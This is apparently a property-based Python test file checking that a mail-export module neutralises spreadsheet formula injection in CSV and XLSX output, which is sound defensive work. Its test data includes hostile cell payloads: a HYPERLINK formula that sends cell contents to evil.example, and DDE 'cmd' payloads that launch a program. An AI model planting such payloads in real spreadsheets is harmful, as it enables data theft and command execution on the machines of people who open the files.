"""Spreadsheet formula injection: every exported cell goes through mailflow.export_safety.

Properties: a neutralised string never starts (even after leading spaces) with a formula
sign; the change is only a leading apostrophe, so nothing is lost and applying it twice
changes nothing more; typed values pass untouched; and the values written through csv and
openpyxl come back as text, never as formulas.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailflow.export_safety import (
    FORMULA_TRIGGERS,
    MAX_CELL_CHARS,
    neutralise_cell,
    safe_row,
    safe_sheet_value,
)

TRIGGERS = sorted(FORMULA_TRIGGERS)
SPACES = " \n\u00a0\u3000"

# Text biased towards what an attacker writes into a form field.
hostile_text = st.one_of(
    st.text(max_size=60),
    st.builds(
        lambda space, sign, rest: space + sign + rest,
        st.text(alphabet=SPACES, max_size=3),
        st.sampled_from(TRIGGERS),
        st.text(max_size=40),
    ),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"详情")',
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            " =1+1",
            "\u3000=1+1",
            "\x00=1+1",
            "=1+1\x07",
        ]
    ),
)
typed_values = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.datetimes(),
    st.times(),
)


def starts_like_formula(text: str) -> bool:
    stripped = text.lstrip(SPACES + "\x0b\x0c\ufeff")
    return bool(text) and (text[0] in FORMULA_TRIGGERS or stripped[:1] in FORMULA_TRIGGERS)


@settings(max_examples=150, deadline=None)
@given(hostile_text)
def test_neutralised_text_never_starts_like_a_formula(text: str) -> None:
    out = neutralise_cell(text)
    assert isinstance(out, str)
    assert not starts_like_formula(out)
    if starts_like_formula(text):
        assert out == "'" + text
    else:
        assert out is text
    assert neutralise_cell(out) == out  # stable


@settings(max_examples=100, deadline=None)
@given(typed_values)
def test_numbers_dates_and_none_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) is value
    assert safe_sheet_value(value) is value


@pytest.mark.parametrize("sign", TRIGGERS)
def test_each_trigger_gets_an_apostrophe(sign: str) -> None:
    assert neutralise_cell(sign + "1+1") == "'" + sign + "1+1"
    assert neutralise_cell("  " + sign + "1") == "'  " + sign + "1"


@pytest.mark.parametrize("text", ["申请人", "张三 <a@example.test>", "1+1", "a=b", "'=1", ""])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise_cell(text) == text


@settings(max_examples=200, deadline=None)
@given(hostile_text)
def test_safe_sheet_value_is_storable_in_xlsx(text: str) -> None:
    out = safe_sheet_value(text)
    assert isinstance(out, str)
    assert not starts_like_formula(out)
    assert len(out) <= MAX_CELL_CHARS
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in out)


def test_safe_sheet_value_caps_length() -> None:
    assert len(str(safe_sheet_value("=" + "a" * 40_000))) == MAX_CELL_CHARS


@settings(max_examples=30, deadline=None)
@given(st.lists(st.one_of(hostile_text, typed_values), min_size=1, max_size=8))
def test_rows_written_by_openpyxl_hold_no_formula(row: list[object]) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    again = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cells = list(again.worksheets[0].iter_rows(values_only=False))
    for cell in cells[0] if cells else ():
        assert cell.data_type != "f", f"{cell.value!r} was written as a formula"
        if isinstance(cell.value, str):
            assert not starts_like_formula(cell.value)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(hostile_text, typed_values), min_size=1, max_size=8))
def test_rows_written_as_csv_start_no_field_with_a_formula_sign(row: list[object]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(row))
    (read_back,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    for field, original in zip(read_back, row, strict=True):
        if isinstance(original, str):
            assert not starts_like_formula(field)


def test_typed_values_keep_their_types_in_a_row() -> None:
    row = [1, 2.5, Decimal("3"), date(2026, 11, 25), datetime(2026, 11, 25, 10), time(9), None]
    assert safe_row(row) == row
